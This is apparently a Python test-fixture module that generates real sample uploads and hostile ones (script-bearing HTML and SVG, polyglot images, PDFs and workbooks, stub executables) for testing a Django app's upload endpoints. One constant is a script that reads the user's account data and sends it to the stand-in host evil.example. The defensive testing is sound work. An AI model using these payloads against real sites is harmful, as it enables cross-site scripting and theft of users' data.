"""Real files of every accepted type, and hostile ones, for the tests of every upload endpoint.

The allowed files are genuine (Pillow draws the images, the PDF has a cross-reference table), so a
test proves a real upload is kept; the hostile ones are what an attacker sends: markup and programs
named and labelled as an allowed type, programs with an allowed type's signature after them, and
polyglots (a valid file of the allowed type that also carries markup a browser would run).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

PDF_TYPE = "application/pdf"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SUFFIX = {
    PDF_TYPE: ".pdf",
    "image/jpeg": ".jpg",
    "image/png": ".png",
    "image/webp": ".webp",
    "image/heic": ".heic",
    "text/csv": ".csv",
    XLSX_TYPE: ".xlsx",
}

SCRIPT = b"<script>fetch('/api/v1/me/').then(r => r.text()).then(t => alert(t))</script>"
HTML = "<!DOCTYPE html><html><body><h1>调解协议</h1>".encode() + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">' + SCRIPT + b"</svg>"
JS = b"fetch('/api/v1/me/').then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40


def _image(fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 12), (200, 30, 30)).save(buffer, fmt, **params)
    return buffer.getvalue()


def png(*, text: bytes = b"") -> bytes:
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Comment", text.decode())
    return _image("PNG", pnginfo=info)


def jpeg(*, comment: bytes = b"") -> bytes:
    return _image("JPEG", comment=comment) if comment else _image("JPEG")


def webp() -> bytes:
    return _image("WEBP")


def heic() -> bytes:
    """The start of an HEIC photo as phones write it (ISO-BMFF `ftyp` box, brand heic)."""
    ftyp = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
    meta = b"\x00\x00\x00\x22meta\x00\x00\x00\x00\x00\x00\x00\x12hdlr\x00\x00\x00\x00\x00\x00\x00\x00pict"
    return ftyp + meta + b"\x00" * 64


def pdf(*, extra: bytes = b"", first: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; `extra` is added to the catalogue,
    `first` right after the header line."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = b"%PDF-1.4\n" + first
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def xlsx(*, first_entry: tuple[str, bytes] | None = None) -> bytes:
    """A one-sheet workbook as openpyxl writes it; `first_entry` is stored uncompressed in front."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["姓名", "身份证号", "地址"])
    written = io.BytesIO()
    book.save(written)
    if first_entry is None:
        return written.getvalue()
    buffer = io.BytesIO()
    with zipfile.ZipFile(written) as source, zipfile.ZipFile(buffer, "w") as target:
        target.writestr(zipfile.ZipInfo(first_entry[0]), first_entry[1], compress_type=zipfile.ZIP_STORED)
        for item in source.infolist():
            target.writestr(item, source.read(item.filename), compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def workbook_without_sheets() -> bytes:
    """The parts of a workbook that name no sheet: an xlsx by its structure, with nothing to read."""
    parts = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
        ),
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheets/></workbook>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:
        for name, body in parts.items():
            book.writestr(name, body, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def csv(text: str = "姓名,身份证号,地址\n张三,110101199003077777,鼓楼区宁海路1号\n") -> bytes:
    return text.encode("utf-8")


SAMPLES: dict[str, Callable[[], bytes]] = {
    PDF_TYPE: pdf,
    "image/jpeg": jpeg,
    "image/png": png,
    "image/webp": webp,
    "image/heic": heic,
    "text/csv": csv,
    XLSX_TYPE: xlsx,
}


def sample(content_type: str) -> bytes:
    return SAMPLES[content_type]()


def polyglot(content_type: str) -> bytes:
    """A file of `content_type` that is also a page: markup in its first bytes."""
    makers: dict[str, Callable[[], bytes]] = {
        PDF_TYPE: lambda: pdf(first=b"%" + HTML + b"\n"),
        "image/jpeg": lambda: jpeg(comment=HTML),
        "image/png": lambda: png(text=HTML),
        "image/webp": lambda: webp()[:12] + HTML + webp()[12:],
        "image/heic": lambda: heic()[:24] + HTML + heic()[24:],
        "text/csv": lambda: csv("姓名,身份证号\n" + HTML.decode() + ",1\n"),
        XLSX_TYPE: lambda: xlsx(first_entry=("xl/media/page.html", HTML)),
    }
    return makers[content_type]()


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    content_type: str  # what the browser claims
    body: bytes

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.body, content_type=self.content_type)


def hostile_files(allowed: list[str]) -> list[Hostile]:
    """What an attacker sends to an upload that accepts `allowed`: HTML, SVG and script under an
    allowed name, an executable disguised as each allowed type (alone, and in front of a real file of
    that type), and a polyglot of each."""
    first = allowed[0]
    files = [
        Hostile("html", "x" + SUFFIX[first], "text/html", HTML),
        Hostile("html claimed as allowed", "x" + SUFFIX[first], first, HTML),
        Hostile("svg", "x" + SUFFIX[first], "image/svg+xml", SVG),
        Hostile("script", "x" + SUFFIX[first], first, SCRIPT),
        Hostile("bare javascript", "x" + SUFFIX[first], "application/javascript", JS),
        Hostile("elf", "x" + SUFFIX[first], first, ELF),
    ]
    for kind in allowed:
        files.append(Hostile(f"exe as {kind}", "x" + SUFFIX[kind], kind, EXE))
        files.append(Hostile(f"program-prefixed {kind}", "x" + SUFFIX[kind], kind, EXE + sample(kind)))
        files.append(Hostile(f"polyglot {kind}", "x" + SUFFIX[kind], kind, polyglot(kind)))
    return files
